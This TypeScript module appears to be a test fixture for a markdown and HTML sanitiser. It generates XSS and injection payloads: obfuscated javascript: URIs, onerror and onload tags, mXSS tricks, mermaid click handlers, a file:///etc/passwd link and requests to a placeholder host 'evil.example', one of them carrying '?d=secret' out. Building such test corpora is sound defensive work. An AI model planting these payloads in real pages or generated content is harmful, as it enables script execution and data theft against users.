/**
 * Texts that try to run code, to leave the page or to contact a host; each calls `pwned` or `evil.example` if it
 * succeeds.
 */

const script = 'pwned(1)';
const host = 'evil.example';

const addresses = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  ` javascript:${script}`,
  `java\tscript:${script}`,
  `java&#10;script:${script}`,
  `&#106;avascript:${script}`,
  `\u0001javascript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `data:image/svg+xml,<svg onload="${script}">`,
  `vbscript:${script}`,
  'file:///etc/passwd',
  `//${host}/x.png`,
  `https://${host}/x.png?d=secret`,
  `blob:https://${host}/x`,
];

const tags = [
  `<script>${script}</script>`,
  `<img src=x onerror=${script}>`,
  `<img src="https://${host}/a.png">`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<object data="https://${host}/x"></object>`,
  `<embed src="javascript:${script}">`,
  `<link rel="stylesheet" href="https://${host}/x.css">`,
  `<style>@import "https://${host}/x.css"; body { background: url(https://${host}/y) }</style>`,
  `<meta http-equiv="refresh" content="0;url=https://${host}">`,
  `<base href="https://${host}/">`,
  `<form action="https://${host}"><button>x</button></form>`,
  `<details open ontoggle=${script}>`,
  `<video src="https://${host}/v" onerror=${script} autoplay></video>`,
  `<a href="javascript:${script}" autofocus onfocus=${script}>x</a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<div style="background:url(https://${host}/z)">x</div>`,
  `<template shadowrootmode="open"><script>${script}</script></template>`,
  `<!--<img src="--><img src=x onerror=${script}//">`,
  `<![CDATA[<img src=x onerror=${script}>]]>`,
  `"><script>${script}</script>`,
  `\\u003cscript>${script}\\u003c/script>`,
];

const formulas = [
  `$\\href{javascript:${script}}{x}$`,
  `$\\url{https://${host}}$`,
  `$\\htmlData{x=<img src=x onerror=${script}>}{y}$`,
  `$\\text{<img src=x onerror=${script}>}$`,
  `$$\\unknown<script>${script}</script>$$`,
  `\\(\\includegraphics{https://${host}/x.png}\\)`,
  `\\[\\left<img src=x onerror=${script}>\\right\\]`,
];

const wrapped: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `> ${inner}`,
  (inner) => `- item ${inner}`,
  (inner) => `| a |\n|---|\n| ${inner.replace(/\n/g, ' ')} |`,
  (inner) => `**${inner}**`,
  (inner) => `\`\`\`html\n${inner}\n\`\`\`\n\n${inner}`,
  (inner) => `# ${inner}`,
];

function linked(address: string): readonly string[] {
  return [
    `[x](${address})`,
    `![x](${address})`,
    `[x](<${address}>)`,
    `[x][r]\n\n[r]: ${address}`,
    `<${address}>`,
    `[![x](${address})](${address})`,
  ];
}

const diagrams = [
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${script}>"] --> B; click A "javascript:${script}"\n\`\`\``,
  `\`\`\`svg\n<svg onload=${script}></svg>\n\`\`\``,
  `[1]: https://${host}\n\nCited [^1].\n\n[^1]: <img src=x onerror=${script}>`,
];

/** Returns a number of payloads, of as many kinds as possible. */
export function makeAttackPayloads(count: number): readonly string[] {
  const every: string[] = [...diagrams, ...formulas, ...tags, ...addresses.flatMap(linked)];
  const all = wrapped.flatMap((wrap) => every.map(wrap));
  // A stride without a common factor with the length reaches every kind early.
  const stride = 37;
  return Array.from({ length: Math.min(count, all.length) }, (_, index) => all[(index * stride) % all.length] ?? '');
}
